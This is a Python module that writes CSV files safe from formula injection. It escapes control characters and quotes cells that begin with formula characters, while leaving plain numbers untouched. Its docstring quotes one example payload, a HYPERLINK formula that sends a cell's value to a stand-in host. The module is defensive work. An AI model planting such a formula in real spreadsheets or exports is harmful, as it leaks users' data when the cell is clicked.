"""CSV cells a spreadsheet opens as data, never as a formula (OWASP's CSV-injection guidance).

A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` as a formula (and some treat a
leading tab or CR the same way): `=HYPERLINK("http://x/?"&A1)` in a partner id, even in an error
record, would send the sheet's data away when clicked. So every text cell is written with:

- each control character (NUL, ESC, CR, LF, tab, ...) as a visible escape (render.text.visible):
  no raw control character reaches a cell, and a cell is always one line;
- a single quote before a cell that then starts with `=`, `+`, `-` or `@`, unless the whole
  cell is a plain number (`-5`, `-0.25`, `+1e3`): a number stays a number.

Numbers given as numbers (measures, ranks, lines) are written as they are. `raw=True` (the CLI's
`--csv-raw`) writes every cell as it is, for a program that reads the CSV as data.
"""
from __future__ import annotations

import csv
import re
from typing import IO, Any, Iterable

from .text import visible

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")


def csv_cell(value: Any) -> Any:
    """One cell made safe for a spreadsheet (see the module docstring); numbers as they are."""
    if type(value) is not str:
        if value is None or isinstance(value, (int, float)):  # numbers and bools: as csv writes them
            return value
        value = str(value)
    if not value:
        return value
    if not value.isprintable():
        value = visible(value)
    if value.startswith(FORMULA_START) and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


class SafeDictWriter:
    """csv.DictWriter whose text cells go through `csv_cell` (unless `raw`): header and rows."""

    def __init__(self, out: IO[str], fieldnames: list[str], *, raw: bool = False, restval: Any = ""):
        self._writer = csv.DictWriter(out, fieldnames=fieldnames, restval=restval, lineterminator="\n")
        self.fieldnames, self.raw = fieldnames, raw

    def writeheader(self) -> None:
        if self.raw:
            self._writer.writeheader()
        else:
            self._writer.writerow({name: csv_cell(name) for name in self.fieldnames})

    def writerow(self, row: dict[str, Any]) -> None:
        self._writer.writerow(row if self.raw else {key: csv_cell(value) for key, value in row.items()})

    def writerows(self, rows: Iterable[dict[str, Any]]) -> None:
        for row in rows:
            self.writerow(row)
